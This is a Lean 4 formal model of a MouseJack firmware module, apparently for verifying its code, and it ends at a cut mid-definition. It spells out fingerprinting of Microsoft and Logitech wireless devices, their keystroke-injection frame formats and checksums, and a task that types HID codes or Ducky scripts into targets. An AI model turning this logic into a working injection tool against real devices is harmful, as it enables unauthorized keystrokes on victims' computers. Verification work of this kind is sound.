import Mathlib

/-!
# MouseJack engine (src/modules/nrf/MouseJack.cpp): embedding and verification

Shallow embedding of the promiscuous-capture fingerprinting path
(`crcUpdate`, `fingerprint`, `fingerprintPayload`) and of the target registry
(`clearTargets`, `findTarget`, `addTarget`).

Conventions.
* A `uint8_t` / `uint16_t` value is a `Nat`; every assignment that truncates in
  C carries an explicit `% 256` / `% 65536`.
* A byte buffer is a `List Nat`; `buf[i]` is `buf.getD i 0`.
* The static members of `MouseJack` are the fields of `MouseJack.State`; the
  records handed to `ClientsManager::notifyAllBinary` are appended to
  `State.notified`.
* `MouseJack.h` and `BinaryMessages.h` are not among the sources: the constants
  they define are the fields of `MjConsts`.
-/

set_option maxRecDepth 1000000

namespace MouseJack

/-! ## Types and constants of the missing headers -/

/-- Modelled from the spec: `enum MjDeviceType` is declared in MouseJack.h, which is
not among the sources. The spec lists the device types MicrosoftPlain,
MicrosoftEncrypted, Logitech and Unknown; the three former are the enumerators
used by `fingerprintPayload`. -/
inductive MjDeviceType where
  | MJ_DEVICE_UNKNOWN
  | MJ_DEVICE_MICROSOFT
  | MJ_DEVICE_MS_CRYPT
  | MJ_DEVICE_LOGITECH
  deriving DecidableEq, Repr

/-- Modelled from the spec: `enum MjState` is declared in MouseJack.h. The source
uses `MJ_IDLE`, `MJ_SCANNING`, `MJ_FOUND` and `MJ_ATTACKING`. -/
inductive MjState where
  | MJ_IDLE
  | MJ_SCANNING
  | MJ_FOUND
  | MJ_ATTACKING
  deriving DecidableEq, Repr

/-- Modelled from the spec: `struct MjTarget` is declared in MouseJack.h. Its fields are
those the source reads and writes: `address` (a byte array, 5 bytes by the
spec), `addrLen`, `channel`, `type`, `active`. -/
structure MjTarget where
  address : List Nat
  addrLen : Nat
  channel : Nat
  type : MjDeviceType
  active : Bool
  deriving DecidableEq, Repr

/-- Constants of MouseJack.h and BinaryMessages.h, taken as parameters:
the registry capacity, the opcode of the target-discovered record and the
numeric value `(uint8_t)type` of each device type. -/
structure MjConsts where
  MJ_MAX_TARGETS : Nat
  MSG_NRF_DEVICE_FOUND : Nat
  typeByte : MjDeviceType → Nat

/-- An entry of `targets_` after `memset(..., 0, ...)`. The enumerator of value 0
is taken to be `MJ_DEVICE_UNKNOWN`, the only one the source never assigns. -/
def zeroTarget : MjTarget :=
  { address := [0, 0, 0, 0, 0], addrLen := 0, channel := 0,
    type := MjDeviceType.MJ_DEVICE_UNKNOWN, active := false }

/-- A call of the `NrfModule` interface (the radio and its SPI lock) or a delay, as
recorded in `State.radio` in the order the calls are made. `setDataRate` is
`setDataRate(NRF_2MBPS)`; `acquireSpi ok` records the result of the call. -/
inductive RadioOp where
  | acquireSpi (ok : Bool)
  | releaseSpi
  | setDataRate
  | setPALevel (level : Nat)
  | setChannel (ch : Nat)
  | setAddressWidth (width : Nat)
  | setTxMode (addr : List Nat) (len : Nat)
  | setPromiscuousMode
  | receive (len : Nat)
  | transmit (frame : List Nat)
  | ceLow
  | delay (ms : Nat)
  | vTaskDelay (ms : Nat)
  | delayMicroseconds (us : Nat)
  deriving DecidableEq, Repr

/-- The `mode` enumeration of `struct AttackParams` (MouseJack.cpp 336). -/
inductive AttackMode where
  | RAW_HID
  | STRING
  | DUCKY
  deriving DecidableEq, Repr

/-- `struct AttackParams` (MouseJack.cpp 330-343). A `char` is its byte value; a C
string is the list of its bytes before the terminating NUL. -/
structure AttackParams where
  targetIndex : Nat
  payload : List Nat
  payloadLen : Nat
  text : List Nat
  filePath : List Nat
  mode : AttackMode
  deriving DecidableEq, Repr

/-- A background context created by `xTaskCreatePinnedToCore`: the scan task, or the
attack task with its parameter block. -/
inductive TaskSpec where
  | scan
  | attack (params : AttackParams)
  deriving DecidableEq, Repr

/-- The static members of class `MouseJack`, and what the engine did to its
collaborators: the log of notifications, the trace of radio calls and delays, the
background contexts created, and the number of times a task has read the volatile
`stopRequest_` (see `readStop`). -/
structure State where
  state_ : MjState
  targets_ : List MjTarget
  targetCount_ : Nat
  msSequence_ : Nat
  stopRequest_ : Bool
  taskHandle_ : Option Nat
  notified : List (List Nat)
  radio : List RadioOp := []
  created : List TaskSpec := []
  stopReads : Nat := 0
  deriving DecidableEq, Repr

/-- Static member initialization (MouseJack.cpp 20-25); the array of
`MJ_MAX_TARGETS` entries is zero-initialized. -/
def initState (k : MjConsts) : State :=
  { state_ := MjState.MJ_IDLE, targets_ := List.replicate k.MJ_MAX_TARGETS zeroTarget,
    targetCount_ := 0, msSequence_ := 0, stopRequest_ := false, taskHandle_ := none,
    notified := [] }

/-- Sample values of the header constants, for evaluating the model on concrete inputs. -/
def sampleConsts : MjConsts :=
  { MJ_MAX_TARGETS := 4, MSG_NRF_DEVICE_FOUND := 0xD0,
    typeByte := fun t => match t with
      | MjDeviceType.MJ_DEVICE_UNKNOWN => 0
      | MjDeviceType.MJ_DEVICE_MICROSOFT => 1
      | MjDeviceType.MJ_DEVICE_MS_CRYPT => 2
      | MjDeviceType.MJ_DEVICE_LOGITECH => 3 }

/-! ## Target management (MouseJack.cpp 50-104) -/

/-- The entry `targets_[i]`. -/
def targetAt (s : State) (i : Nat) : MjTarget := s.targets_.getD i zeroTarget

/-- `MouseJack::clearTargets`: zero the whole array, reset the count. -/
def clearTargets (k : MjConsts) (s : State) : State :=
  { s with targets_ := List.replicate k.MJ_MAX_TARGETS zeroTarget, targetCount_ := 0 }

/-- The condition of the `if` in `findTarget`, at index `i`;
`memcmp(a, b, n) == 0` compares the first `n` bytes. -/
def targetMatches (s : State) (addr : List Nat) (addrLen : Nat) (i : Nat) : Bool :=
  (targetAt s i).active && decide ((targetAt s i).addrLen = addrLen) &&
    decide ((targetAt s i).address.take addrLen = addr.take addrLen)

/-- The `for` loop of `findTarget`, at index `i` with `fuel = targetCount_ - i`
iterations left. -/
def findTargetLoop (s : State) (addr : List Nat) (addrLen : Nat) : Nat → Nat → Int
  | 0, _ => -1
  | fuel + 1, i =>
    if targetMatches s addr addrLen i then (i : Int)
    else findTargetLoop s addr addrLen fuel (i + 1)

/-- `MouseJack::findTarget`: index of the first matching entry, or -1. -/
def findTarget (s : State) (addr : List Nat) (addrLen : Nat) : Int :=
  findTargetLoop s addr addrLen s.targetCount_ 0

/-- `MouseJack::addTarget`: returns the index (or -1) and the new state. -/
def addTarget (k : MjConsts) (addr : List Nat) (addrLen channel : Nat)
    (type : MjDeviceType) (s : State) : Int × State :=
  let idx := findTarget s addr addrLen
  if idx ≥ 0 then
    -- targets_[idx].channel = channel
    (idx, { s with
      targets_ := s.targets_.set idx.toNat { targetAt s idx.toNat with channel := channel } })
  else if s.targetCount_ ≥ k.MJ_MAX_TARGETS then
    (-1, s)
  else
    -- idx = targetCount_++  (targetCount_ is a uint8_t)
    let idx := s.targetCount_
    let old := targetAt s idx
    let entry : MjTarget :=
      { address := addr.take addrLen ++ old.address.drop addrLen,
        addrLen := addrLen, channel := channel, type := type, active := true }
    let notifBuf :=
      [k.MSG_NRF_DEVICE_FOUND, idx % 256, k.typeByte type, channel, addrLen] ++ addr.take addrLen
    ((idx : Int), { s with
      targetCount_ := (s.targetCount_ + 1) % 256,
      targets_ := s.targets_.set idx entry,
      notified := s.notified ++ [notifBuf] })

/-- The state after `addTarget` found the address at index `i`: line 71,
`targets_[idx].channel = channel`. -/
def channelUpdated (s : State) (i channel : Nat) : State :=
  { s with targets_ := s.targets_.set i { targetAt s i with channel := channel } }

/-- A call of the registry interface: `addTarget(addr, addrLen, channel, type)` or
`clearTargets()`. -/
inductive RegistryOp where
  | add (addr : List Nat) (addrLen channel : Nat) (type : MjDeviceType)
  | clear
  deriving DecidableEq, Repr

/-- The precondition of a call: an address of 1 to 5 bytes, all of them supplied. -/
def RegistryOp.ok : RegistryOp → Bool
  | RegistryOp.add addr addrLen _ _ => decide (1 ≤ addrLen ∧ addrLen ≤ 5 ∧ addrLen ≤ addr.length)
  | RegistryOp.clear => true

/-- The state after one call. -/
def applyOp (k : MjConsts) (s : State) : RegistryOp → State
  | RegistryOp.add addr addrLen channel type => (addTarget k addr addrLen channel type s).2
  | RegistryOp.clear => clearTargets k s

/-- The state reached from `clearTargets` (called in any state `s0`) by a sequence of calls. -/
def runOps (k : MjConsts) (s0 : State) (ops : List RegistryOp) : State :=
  ops.foldl (applyOp k) (clearTargets k s0)

/-- Two registry entries carry the same address: same length, same bytes. -/
def sameAddress (a b : MjTarget) : Bool :=
  decide (a.addrLen = b.addrLen) && decide (a.address.take a.addrLen = b.address.take b.addrLen)

/-- The registry invariant: the array has `MJ_MAX_TARGETS` entries, the count does not
exceed the capacity, exactly the entries below the count are active, and no two of
them carry the same address. -/
def RegistryInv (k : MjConsts) (s : State) : Prop :=
  s.targets_.length = k.MJ_MAX_TARGETS ∧
  s.targetCount_ ≤ k.MJ_MAX_TARGETS ∧
  (∀ i, i < s.targetCount_ → (targetAt s i).active = true) ∧
  (∀ i, s.targetCount_ ≤ i → (targetAt s i).active = false) ∧
  (∀ i j, i < s.targetCount_ → j < s.targetCount_ → i ≠ j →
    sameAddress (targetAt s i) (targetAt s j) = false)

/-- A full registry for the sample constants: four distinct addresses. -/
def sampleFull : State :=
  runOps sampleConsts (initState sampleConsts)
    [RegistryOp.add [1, 1, 1, 1, 1] 5 10 MjDeviceType.MJ_DEVICE_MICROSOFT,
     RegistryOp.add [2, 2, 2, 2, 2] 5 20 MjDeviceType.MJ_DEVICE_MS_CRYPT,
     RegistryOp.add [3, 3, 3, 3, 3] 5 30 MjDeviceType.MJ_DEVICE_LOGITECH,
     RegistryOp.add [4, 4, 4, 4, 4] 5 40 MjDeviceType.MJ_DEVICE_LOGITECH]

/-! ## CRC16-CCITT (MouseJack.cpp 196-210) -/

/-- One iteration of the `while (bits--)` loop of `crcUpdate` on the `uint16_t` register. -/
def crcShift (crc : Nat) : Nat :=
  if crc &&& 0x8000 = 0x8000 then ((crc <<< 1) ^^^ 0x1021) % 65536
  else (crc <<< 1) % 65536

/-- The `while (bits--)` loop of `crcUpdate`. -/
def crcLoop : Nat → Nat → Nat
  | 0, crc => crc
  | bits + 1, crc => crcLoop bits (crcShift crc)

/-- `crcUpdate(crc, byte, bits)`. -/
def crcUpdate (crc byte bits : Nat) : Nat :=
  crcLoop bits ((crc ^^^ (byte <<< 8)) % 65536) &&& 0xFFFF

/-! ## Fingerprinting (MouseJack.cpp 214-325) -/

/-- The in-place loop `for (int x = size - 1; x >= 0; x--)` of the second pass,
with `n` iterations left: the next index handled is `n - 1`. -/
def shiftRightLoop (buf : List Nat) : Nat → List Nat
  | 0 => buf
  | x + 1 =>
    if x > 0 then
      shiftRightLoop (buf.set x (((buf.getD (x - 1) 0 <<< 7) ||| (buf.getD x 0 >>> 1)) % 256)) x
    else
      shiftRightLoop (buf.set x ((buf.getD x 0 >>> 1) % 256)) x

/-- The contents of `buf[0 .. size)` when the body of the `offset` pass starts:
the copy of the capture, shifted in place on the second pass. -/
def alignedBuf (rawBuf : List Nat) (size offset : Nat) : List Nat :=
  let buf := rawBuf.take size
  if offset = 1 then shiftRightLoop buf size else buf

/-- The value `crcGiven` of one pass (lines 258-261). -/
def crcGiven (buf : List Nat) (payloadLength : Nat) : Nat :=
  let g0 := ((buf.getD (6 + payloadLength) 0 <<< 9) |||
             (buf.getD (7 + payloadLength) 0 <<< 1)) % 65536
  let g1 := ((g0 <<< 8) ||| (g0 >>> 8)) % 65536
  if buf.getD (8 + payloadLength) 0 &&& 0x80 ≠ 0 then g1 ||| 0x0100 else g1

/-- The register after the `for` loop of lines 263-266 and the call of line 267,
before the byte swap. -/
def crcCalcRaw (buf : List Nat) (payloadLength : Nat) : Nat :=
  let c0 := (List.range (6 + payloadLength)).foldl
    (fun crc x => crcUpdate crc (buf.getD x 0) 8) 0xFFFF
  crcUpdate c0 (buf.getD (6 + payloadLength) 0 &&& 0x80) 1

/-- The value `crcCalc` of one pass (lines 263-268). -/
def crcCalc (buf : List Nat) (payloadLength : Nat) : Nat :=
  let c1 := crcCalcRaw buf payloadLength
  ((c1 <<< 8) ||| (c1 >>> 8)) % 65536

/-- The loop of lines 280-282 filling `esbPayload[0 .. payloadLength)`. -/
def esbPayload (buf : List Nat) (payloadLength : Nat) : List Nat :=
  (List.range payloadLength).map
    (fun x => ((buf.getD (6 + x) 0 <<< 1) &&& 0xFF) ||| (buf.getD (7 + x) 0 >>> 7))

/-- The body of one pass of the `offset` loop, after the buffer is aligned
(lines 249-286): `none` is `continue`; otherwise the address, the payload and
the payload length handed to `fingerprintPayload`. -/
def fingerprintTrial (buf : List Nat) (size : Nat) : Option (List Nat × List Nat × Nat) :=
  let payloadLength := buf.getD 5 0 >>> 2
  if payloadLength = 0 ∨ (payloadLength : Int) > (size : Int) - 9 then none
  else if crcCalc buf payloadLength ≠ crcGiven buf payloadLength then none
  else some (buf.take 5, esbPayload buf payloadLength, payloadLength)

/-- The `for (int offset = 0; offset < 2; offset++)` loop over the offsets left. -/
def fingerprintOffsets (rawBuf : List Nat) (size : Nat) :
    List Nat → Option (List Nat × List Nat × Nat)
  | [] => none
  | offset :: rest =>
    match fingerprintTrial (alignedBuf rawBuf size offset) size with
    | some r => some r
    | none => fingerprintOffsets rawBuf size rest

/-- The arguments with which `fingerprint` reaches `fingerprintPayload`, if it does. -/
def fingerprintFrame (rawBuf : List Nat) (size : Nat) : Option (List Nat × List Nat × Nat) :=
  if size < 10 then none
  else
    let size := if size > 37 then 37 else size
    fingerprintOffsets rawBuf size [0, 1]

/-- The device type with which `fingerprintPayload` calls `addTarget`, if it does
(the three calls differ in that argument only). -/
def fingerprintPayloadType (payload : List Nat) (size : Nat) : Option MjDeviceType :=
  let micro : Option MjDeviceType :=
    if size = 19 then
      if payload.getD 0 0 = 0x08 ∧ payload.getD 6 0 = 0x40 then
        some MjDeviceType.MJ_DEVICE_MICROSOFT
      else if payload.getD 0 0 = 0x0A then
        some MjDeviceType.MJ_DEVICE_MS_CRYPT
      else none
    else none
  match micro with
  | some t => some t
  | none =>
    if payload.getD 0 0 = 0x00 then
      let isLogitech := false
      let isLogitech :=
        if size = 10 ∧ (payload.getD 1 0 = 0xC2 ∨ payload.getD 1 0 = 0x4F) then true
        else isLogitech
      let isLogitech := if size = 22 ∧ payload.getD 1 0 = 0xD3 then true else isLogitech
      let isLogitech := if size = 5 ∧ payload.getD 1 0 = 0x40 then true else isLogitech
      if isLogitech then some MjDeviceType.MJ_DEVICE_LOGITECH else none
    else none

/-- `MouseJack::fingerprintPayload`. -/
def fingerprintPayload (k : MjConsts) (payload : List Nat) (size : Nat) (addr : List Nat)
    (channel : Nat) (s : State) : State :=
  match fingerprintPayloadType payload size with
  | some t => (addTarget k addr 5 channel t s).2
  | none => s

/-- `MouseJack::fingerprint`. -/
def fingerprint (k : MjConsts) (rawBuf : List Nat) (size channel : Nat) (s : State) : State :=
  match fingerprintFrame rawBuf size with
  | some (addr, payload, payloadLength) => fingerprintPayload k payload payloadLength addr channel s
  | none => s

/-! ## Reference definitions, written from the specification -/

/-- Bit `p` of a buffer, counted most-significant first from bit 0 of byte 0. -/
def bitAt (buf : List Nat) (p : Nat) : Bool := (buf.getD (p / 8) 0).testBit (7 - p % 8)

/-- The number whose binary digits, most-significant first, are the `len` bits of
the buffer that start at bit position `start`. -/
def bitsValue (buf : List Nat) (start : Nat) : Nat → Nat
  | 0 => 0
  | len + 1 => 2 * bitsValue buf start len + (bitAt buf (start + len)).toNat

/-- One step of the bit-serial CRC-CCITT: the bit shifted out of the 16-bit
register is combined with the message bit; the register moves left by one and
the polynomial 0x1021 is XOR-ed in when the combined bit is 1. -/
def crcSpecBit (reg : Nat) (b : Bool) : Nat :=
  let out := xor (decide (reg / 32768 % 2 = 1)) b
  let shifted := 2 * reg % 65536
  if out then shifted ^^^ 0x1021 else shifted

/-- Bit-serial CRC-CCITT, seed `seed`, of the first `nbits` bits of a buffer. -/
def crcSpecBits (seed : Nat) (buf : List Nat) : Nat → Nat
  | 0 => seed
  | n + 1 => crcSpecBit (crcSpecBits seed buf n) (bitAt buf n)

/-- Bit-serial CRC-CCITT register after the `n` most significant bits of one byte
have been fed, most-significant first, into the register `reg`. -/
def crcSpecByte (reg byte : Nat) : Nat → Nat
  | 0 => reg
  | n + 1 => crcSpecBit (crcSpecByte reg byte n) (byte.testBit (7 - n))

/-- Value of the `len` bits of one byte that start at bit `j`, counted
most-significant first. -/
def byteBitsValue (byte j : Nat) : Nat → Nat
  | 0 => 0
  | len + 1 => 2 * byteBitsValue byte j len + (byte.testBit (7 - (j + len))).toNat

/-- The buffer with the single bit at position `p` (most-significant first) flipped. -/
def flipBit (buf : List Nat) (p : Nat) : List Nat :=
  buf.set (p / 8) (buf.getD (p / 8) 0 ^^^ (128 >>> (p % 8)))

/-- The capture obtained by shifting a buffer left by one bit across the whole buffer:
bit 7 of byte `i + 1` becomes bit 0 of byte `i`; the bit entering the last byte is
the top bit of `next`, the byte that follows the buffer. -/
def shiftLeftOne (F : List Nat) (next : Nat) : List Nat :=
  (List.range F.length).map
    (fun i => (2 * F.getD i 0) % 256 + (F ++ [next]).getD (i + 1) 0 / 128)

/-- Register of the spec's CRC16 Validator: the byte is XOR-ed into the top 8 bits
of the seed, then `k` shift steps (no further message bit) are applied. -/
def crcSpecRegister (seed byte : Nat) : Nat → Nat
  | 0 => (seed ^^^ (byte * 256)) % 65536
  | k + 1 => crcSpecBit (crcSpecRegister seed byte k) false

/-! ## Microsoft protocol (MouseJack.cpp 553-625) -/

/-- Append one call to the radio trace. -/
def emit (op : RadioOp) (s : State) : State := { s with radio := s.radio ++ [op] }

/-- The loop of `msChecksum`: `checksum ^= payload[i]` for `i` in `[0, n)`, on a
`uint8_t`. -/
def msChecksumLoop (payload : List Nat) (n : Nat) : Nat :=
  (List.range n).foldl (fun checksum i => (checksum ^^^ payload.getD i 0) % 256) 0

/-- `MouseJack::msChecksum(payload, size)`: `payload[size - 1] = ~checksum` on a
`uint8_t`. With `size = 0` the C code writes before the buffer; the model leaves the
buffer alone. -/
def msChecksum (payload : List Nat) (size : Nat) : List Nat :=
  if size = 0 then payload
  else payload.set (size - 1) (255 - msChecksumLoop payload (size - 1))

/-- The loop of `msCrypt` at index `i`, with `fuel = size - i` iterations left. -/
def msCryptLoop (addr : List Nat) : Nat → Nat → List Nat → List Nat
  | 0, _, payload => payload
  | fuel + 1, i, payload =>
    msCryptLoop addr fuel (i + 1)
      (payload.set i ((payload.getD i 0 ^^^ addr.getD ((i - 4) % 5) 0) % 256))

/-- `MouseJack::msCrypt(payload, size, addr)`. -/
def msCrypt (payload : List Nat) (size : Nat) (addr : List Nat) : List Nat :=
  msCryptLoop addr (size - 4) 4 payload

/-- The frame of the first `NrfModule::transmit` of `msTransmit` (lines 566-584), built
with `msSequence_ = seq`. -/
def msKeyDown (target : MjTarget) (meta hid seq : Nat) : List Nat :=
  let frame := List.replicate 19 0
  let frame := frame.set 0 0x08
  let frame := frame.set 4 ((seq &&& 0xFF) % 256)
  let frame := frame.set 5 (((seq >>> 8) &&& 0xFF) % 256)
  let frame := frame.set 6 67
  let frame := frame.set 7 meta
  let frame := frame.set 9 hid
  let frame := msChecksum frame 19
  if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then msCrypt frame 19 target.address
  else frame

/-- The frame of the second `NrfModule::transmit` of `msTransmit` (lines 591-603):
the key-down frame rewritten in place, with `msSequence_ = seq`. -/
def msKeyUp (target : MjTarget) (frame : List Nat) (seq : Nat) : List Nat :=
  let frame :=
    if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then msCrypt frame 19 target.address
    else frame
  let frame := (List.range 14).foldl (fun f n => f.set (4 + n) 0) frame
  let frame := frame.set 4 ((seq &&& 0xFF) % 256)
  let frame := frame.set 5 (((seq >>> 8) &&& 0xFF) % 256)
  let frame := frame.set 6 67
  let frame := msChecksum frame 19
  if target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT then msCrypt frame 19 target.address
  else frame

/-- `MouseJack::msTransmit(target, meta, hid)`; `msSequence_` is a `uint16_t`. -/
def msTransmit (target : MjTarget) (meta hid : Nat) (s : State) : State :=
  let frame := msKeyDown target meta hid s.msSequence_
  let s := { s with msSequence_ := (s.msSequence_ + 1) % 65536 }
  let s := emit (RadioOp.transmit frame) s
  let s := emit (RadioOp.delay 5) s
  let frame := msKeyUp target frame s.msSequence_
  let s := { s with msSequence_ := (s.msSequence_ + 1) % 65536 }
  let s := emit (RadioOp.transmit frame) s
  emit (RadioOp.delay 5) s

/-! ## Logitech protocol (MouseJack.cpp 629-655) -/

/-- The frame `logTransmit` hands to `NrfModule::transmit`; `cksum` is a `uint8_t`. -/
def logFrame (meta : Nat) (keys : List Nat) (keysLen : Nat) : List Nat :=
  let frame := List.replicate 10 0
  let frame := frame.set 0 0x00
  let frame := frame.set 1 0xC1
  let frame := frame.set 2 meta
  let frame := (List.range (min keysLen 6)).foldl (fun f i => f.set (3 + i) (keys.getD i 0)) frame
  let cksum := (List.range 9).foldl (fun c i => (c + 256 - frame.getD i 0 % 256) % 256) 0xFF
  let cksum := (cksum + 1) % 256
  frame.set 9 cksum

/-- `MouseJack::logTransmit(target, meta, keys, keysLen)`. -/
def logTransmit (_target : MjTarget) (meta : Nat) (keys : List Nat) (keysLen : Nat)
    (s : State) : State :=
  emit (RadioOp.transmit (logFrame meta keys keysLen)) s

/-! ## Arduino `String` operations used by the script parser -/

/-- `isspace` in the C locale. -/
def isSpace (c : Nat) : Bool := c = 32 || (9 ≤ c && c ≤ 13)

/-- `String::trim`: drop the leading and the trailing white space. -/
def trim (l : List Nat) : List Nat :=
  ((l.dropWhile isSpace).reverse.dropWhile isSpace).reverse

/-- `tolower` on an ASCII byte. -/
def toLower (c : Nat) : Nat := if 65 ≤ c ∧ c ≤ 90 then c + 32 else c

/-- `String::equalsIgnoreCase`. -/
def equalsIgnoreCase (a b : List Nat) : Bool := a.map toLower == b.map toLower

/-- `String::indexOf(ch)`: the first index holding `ch`, or -1. -/
def indexOf (l : List Nat) (ch : Nat) : Int :=
  match l.indexOf? ch with
  | some i => (i : Int)
  | none => -1

/-- The digits read by `atol`, accumulated on `acc`. -/
def atolDigits : List Nat → Nat → Nat
  | [], acc => acc
  | c :: rest, acc => if 48 ≤ c ∧ c ≤ 57 then atolDigits rest (acc * 10 + (c - 48)) else acc

/-- `String::toInt`, that is `atol`: white space, an optional sign, decimal digits; a
`long` has 32 bits and a value out of its range saturates. -/
def toInt (l : List Nat) : Int :=
  let l := l.dropWhile isSpace
  let v : Int :=
    match l with
    | 45 :: rest => - (atolDigits rest 0 : Int)
    | 43 :: rest => (atolDigits rest 0 : Int)
    | _ => (atolDigits l 0 : Int)
  if v > 2147483647 then 2147483647 else if v < -2147483648 then -2147483648 else v

/-! ## Attack task (MouseJack.cpp 439-549, 659-758) -/

/-- Modelled from the spec: `struct HidKeyEntry` is declared in HidPayloads.h, which is not
among the sources; the source reads its `modifier` and `keycode` bytes. -/
structure HidKeyEntry where
  modifier : Nat
  keycode : Nat
  deriving DecidableEq, Repr

/-- Constants and tables of BinaryMessages.h and HidPayloads.h used by the tasks, taken
as parameters: two notification opcodes, `HID_MOD_NONE`, `HID_KEY_ENTER`, the lookup
`asciiToHid` (`none` when it returns false) and the rows `(name, modifier, keycode)` of
`DUCKY_KEYS` before its `nullptr` sentinel. -/
structure TaskConsts where
  MSG_NRF_SCAN_COMPLETE : Nat
  MSG_NRF_ATTACK_COMPLETE : Nat
  HID_MOD_NONE : Nat
  HID_KEY_ENTER : Nat
  asciiToHid : Nat → Option HidKeyEntry
  DUCKY_KEYS : List (List Nat × Nat × Nat)

/-- What the attack task gets from outside: the result of `NrfModule::acquireSpi()`,
the script file as `SD.open` and `readStringUntil` deliver it (`none` when it cannot
be opened, else its lines), and the command context: `stopAt n` tells whether
`stopAttack()` has run before the task reads `stopRequest_` for the `n`-th time. -/
structure AttackEnv where
  acquireSpi : Bool
  file : Option (List (List Nat))
  stopAt : Nat → Bool

/-- One read of the volatile `stopRequest_` by the running task: the value read, and
the state with the read counted and the flag as `stopAttack()` left it. -/
def readStop (env : AttackEnv) (s : State) : Bool × State :=
  (s.stopRequest_ || env.stopAt s.stopReads,
   { s with stopRequest_ := s.stopRequest_ || env.stopAt s.stopReads,
            stopReads := s.stopReads + 1 })

/-- The test `target.type == MJ_DEVICE_MICROSOFT || target.type == MJ_DEVICE_MS_CRYPT`. -/
def isMicrosoft (target : MjTarget) : Bool :=
  target.type = MjDeviceType.MJ_DEVICE_MICROSOFT || target.type = MjDeviceType.MJ_DEVICE_MS_CRYPT

/-- The synchronization loop of lines 461-463, with `n` iterations left. -/
def msSync (target : MjTarget) : Nat → State → State
  | 0, s => s
  | n + 1, s => msSync target n (msTransmit target 0 0 s)

/-- The `RAW_HID` loop of lines 470-480 at index `i`. -/
def rawLoop (env : AttackEnv) (target : MjTarget) (payload : List Nat) (payloadLen : Nat) :
    Nat → Nat → State → State
  | 0, _, s => s
  | fuel + 1, i, s =>
    if i + 1 < payloadLen then
      if (readStop env s).1 then (readStop env s).2
      else
        let s := (readStop env s).2
        let meta := payload.getD i 0
        let hid := payload.getD (i + 1) 0
        let s :=
          if isMicrosoft target then msTransmit target meta hid s
          else if target.type = MjDeviceType.MJ_DEVICE_LOGITECH then logTransmit target meta [hid] 1 s
          else s
        let s := emit (RadioOp.vTaskDelay 10) s
        rawLoop env target payload payloadLen fuel (i + 2) s
    else s

/-- The `STRING` loop of lines 487-510 on the bytes of `text` not yet read. -/
def stringLoop (c : TaskConsts) (env : AttackEnv) (target : MjTarget) : List Nat → State → State
  | [], s => s
  | ch :: rest, s =>
    if (readStop env s).1 then (readStop env s).2
    else
      let s := (readStop env s).2
      let entry : Option HidKeyEntry :=
        if ch = 10 then some { modifier := c.HID_MOD_NONE, keycode := c.HID_KEY_ENTER }
        else c.asciiToHid ch
      match entry with
      | none => stringLoop c env target rest s
      | some entry =>
        let s :=
          if isMicrosoft target then msTransmit target entry.modifier entry.keycode s
          else if target.type = MjDeviceType.MJ_DEVICE_LOGITECH then
            logTransmit target entry.modifier [entry.keycode] 1 s
          else s
        let s :=
          if isMicrosoft target then msTransmit target 0 0 s
          else logTransmit target 0 [0] 1 s
        let s := emit (RadioOp.vTaskDelay 5) s
        stringLoop c env target rest s

/-- The loop of the `STRING ` directive (lines 676-693) on the bytes not yet read. -/
def duckyStringLoop (c : TaskConsts) (env : AttackEnv) (target : MjTarget) :
    List Nat → State → State
  | [], s => s
  | ch :: rest, s =>
    if (readStop env s).1 then (readStop env s).2
    else
      let s := (readStop env s).2
      match c.asciiToHid ch with
      | none => duckyStringLoop c env target rest s
      | some entry =>
        let s :=
          if isMicrosoft target then msTransmit target entry.modifier entry.keycode s
          else logTransmit target entry.modifier [entry.keycode] 1 s
        let s :=
          if isMicrosoft target then msTransmit target 0 0 s
          else logTransmit target 0 [0] 1 s
        let s := emit (RadioOp.vTaskDelay 5) s
        duckyStringLoop c env target rest s

/-- The lookup loops of lines 711-718 and 730-738: the first row of `DUCKY_KEYS` whose
name equals the token, ignoring case. -/
def lookupKey (table : List (List Nat × Nat × Nat)) (token : List Nat) :
    Option (List Nat × Nat × Nat) :=
  table.find? (fun row => equalsIgnoreCase token row.1)

/-- The modifier and keycode of a key-name line after its second token is handled
(lines 723-739). -/
def combineSecond (c : TaskConsts) (combinedMod keycode : Nat) (secondToken : List Nat) :
    Nat × Nat :=
  if secondToken.length = 1 then
    match c.asciiToHid (secondToken.getD 0 0) with
    | some entry => ((combinedMod ||| entry.modifier) % 256, entry.keycode)
    | none => (combinedMod, keycode)
  else if secondToken.length > 1 then
    match lookupKey c.DUCKY_KEYS secondToken with
    | some row =>
      ((combinedMod ||| row.2.1) % 256, if row.2.2 ≠ 0 then row.2.2 else keycode)
    | none => (combinedMod, keycode)
  else (combinedMod, keycode)

/-- `MouseJack::parseDuckyLine(line, targetIndex)`: the value returned and the state. -/
def parseDuckyLine (c : TaskConsts) (env : AttackEnv) (line : List Nat) (targetIndex : Nat)
    (s : State) : Bool × State :=
  let target := targetAt s targetIndex
  if [82, 69, 77].isPrefixOf line || [47, 47].isPrefixOf line then (true, s)
  else if [68, 69, 76, 65, 89].isPrefixOf line then
    let delayMs := toInt (line.drop 6)
    if delayMs > 0 ∧ delayMs ≤ 30000 then (true, emit (RadioOp.vTaskDelay delayMs.toNat) s)
    else (true, s)
  else if [83, 84, 82, 73, 78, 71, 32].isPrefixOf line then
    (true, duckyStringLoop c env target (line.drop 7) s)
  else
    let spaceIdx := indexOf line 32
    let firstToken := if spaceIdx > 0 then line.take spaceIdx.toNat else line
    let secondToken := if spaceIdx > 0 then line.drop (spaceIdx.toNat + 1) else []
    let firstToken := trim firstToken
    let secondToken := trim secondToken
    match lookupKey c.DUCKY_KEYS firstToken with
    | none => (false, s)
    | some row =>
      let key := combineSecond c row.2.1 row.2.2 secondToken
      let s :=
        if isMicrosoft target then msTransmit target key.1 key.2 s
        else logTransmit target key.1 [key.2] 1 s
      let s := emit (RadioOp.vTaskDelay 10) s
      let s :=
        if isMicrosoft target then msTransmit target 0 0 s
        else logTransmit target 0 [0] 1 s
      (true, s)

/-- The `DUCKY` loop of lines 522-528 on the lines not yet read. -/
def duckyLoop (c : TaskConsts) (env : AttackEnv) (tIdx : Nat) : List (List Nat) → State → State
  | [], s => s
  | raw :: rest, s =>
    if (readStop env s).1 then (readStop env s).2
    else
      let s := (readStop env s).2
      let line := trim raw
      let s := if line.length > 0 then (parseDuckyLine c env line tIdx s).2 else s
      duckyLoop c env tIdx rest s

/-- The `switch (params->mode)` of lines 466-532. -/
def attackBody (c : TaskConsts) (env : AttackEnv) (params : AttackParams) (target : MjTarget)
    (s : State) : State :=
  match params.mode with
  | AttackMode.RAW_HID =>
